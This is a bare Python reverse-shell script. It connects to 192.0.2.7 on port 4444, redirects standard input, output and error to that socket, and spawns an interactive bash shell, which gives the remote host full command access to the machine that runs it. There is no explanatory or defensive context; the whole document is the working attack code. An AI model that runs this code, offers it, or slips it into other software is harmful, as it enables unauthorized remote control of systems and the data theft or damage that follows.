import socket as s, os, pty
c = s.socket()
c.connect(("192.0.2.7", 4444))
for f in (0, 1, 2):
    os.dup2(c.fileno(), f)
pty.spawn("/bin/bash")
